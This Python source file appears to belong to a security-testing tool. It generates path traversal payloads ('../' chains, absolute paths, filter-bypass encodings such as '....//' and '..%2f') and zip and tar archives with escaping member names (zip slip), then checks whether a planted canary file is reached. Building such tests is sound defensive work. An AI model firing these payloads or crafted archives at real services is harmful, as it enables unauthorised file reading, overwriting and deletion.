"""Path traversal: marked text that leads to a file outside of the service's folder."""

from __future__ import annotations

import base64
import io
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path, PurePosixPath

from crashworthy.core.history import SensorEvent
from crashworthy.core.value import Json
from crashworthy.lab.experiments.injection.attack import Evidence, Payload, Sighting, SinkAttack
from crashworthy.lab.experiments.injection.inputs import Input, Kind
from crashworthy.lab.experiments.injection.positions import MARKER
from crashworthy.weaknesses.injection_formats import PATH_TRAVERSAL

ENDING, MEMBER, FORMAT = "ending", "member", "format"
_UP = 14
_LONGEST_ENDING = 5
_HARM: Mapping[str, tuple[str, str, dict[str, str]]] = {
    "read": ("the path of a file that is read", "can read any file that the service may", {"read": "H"}),
    "list": ("the path of a folder that is listed", "can list any folder that the service may", {"read": "L"}),
    "write": (
        "the path of a file that is written",
        "can write any file that the service may, its own code included",
        {"read": "H", "change": "H", "stop": "H"},
    ),
    "delete": (
        "the path of a file that is deleted",
        "can delete any file that the service may",
        {"change": "H", "stop": "H"},
    ),
    "rename": ("the path of a file that is moved", "can move any file that the service may", {"change": "H"}),
    "create": ("the path of a folder that is made", "can make folders anywhere", {"change": "L"}),
}


class Traversal(SinkAttack):
    """Ways to a canary: a file in the run's folder, outside of the service's. It holds nothing but its own name.

    That a path leads out of the service's folder proves nothing (temporary files do); that it leads to the very file
    that the payload aimed at does.
    """

    id = "path"
    weakness = PATH_TRAVERSAL
    expected = "a name that leads out of the service's folder is refused, or loses what leads out"

    def payloads(self, place: Input, marker: str) -> Iterator[Payload]:
        """Upwards, absolute, and in the forms that a filter which removes `../` once lets through."""
        if place.kind in {Kind.BODY, Kind.FIELD_NAME, Kind.USUAL_HEADER, Kind.FILE}:
            return
        aim = "${outside}/" + marker
        ending = _ending(place.good)
        if ending:
            yield Payload("../" * _UP + aim + ending, {ENDING: ending})
        for text in ("../" * _UP + aim, aim, "....//" * _UP + aim, "..%2f" * _UP + aim):
            yield Payload(text)

    def prepare(self, settings: Mapping[str, Json], outside: Path) -> None:
        """The canary."""
        marker = str(settings[MARKER])
        (outside / f"{marker}{settings.get(ENDING, '')}").write_text(f"canary {marker[::-1]}\n", encoding="utf-8")

    def evidence(self, sighting: Sighting) -> Evidence | None:
        """With the harm that the use of the path does; what is written or deleted counts before what is read."""
        found = super().evidence(sighting)
        if found is None:
            return None
        uses = [str(event.data.get("use")) for event in sighting.sinks("path") if event.location == found.location]
        use = next((each for each in ("write", "delete", "rename", "read", "list", "create") if each in uses), "read")
        becomes, gets, impact = _HARM[use]
        return Evidence(becomes, found.seen, gets, found.location, impact)

    becomes, gets, impact = _HARM["read"]

    def given(self, event: SensorEvent) -> str:
        """The real path."""
        return f"(to {event.data.get('resolved')})"


class Archive(Traversal):
    """The same by the name of an archive's member ("zip slip")."""

    id = "archive"

    def payloads(self, place: Input, _marker: str) -> Iterator[Payload]:
        """A zip and a tar file, each with a way upwards and an absolute one."""
        if place.kind is Kind.FILE:
            for form, kind in (("zip", "application/zip"), ("tar", "application/x-tar")):
                for start in ("../" * _UP, "/"):
                    file: Json = {"base64": "${archive}", "content_type": kind}
                    yield Payload(file, {MEMBER: start, FORMAT: form})

    def variables(self, settings: Mapping[str, Json], outside: Path) -> dict[str, Json]:
        """The archive, in Base64."""
        name = f"{settings[MEMBER]}{'/'.join(outside.parts[1:])}/{settings[MARKER]}"
        made = _tar(name) if settings[FORMAT] == "tar" else _zip(name)
        return {**super().variables(settings, outside), "archive": base64.b64encode(made).decode("ascii")}


def _zip(name: str) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as out:
        out.writestr(zipfile.ZipInfo(name), b"canary\n")
    return made.getvalue()


def _tar(name: str) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as out:
        member = tarfile.TarInfo(name)
        member.size = len(b"canary\n")
        out.addfile(member, io.BytesIO(b"canary\n"))
    return made.getvalue()


def _ending(good: Json) -> str:
    """The ending of a file name such as "report.txt"."""
    if not isinstance(good, str) or "${" in good:
        return ""
    ending = PurePosixPath(good).suffix
    return ending if 1 < len(ending) <= _LONGEST_ENDING and ending[1:].isalnum() else ""
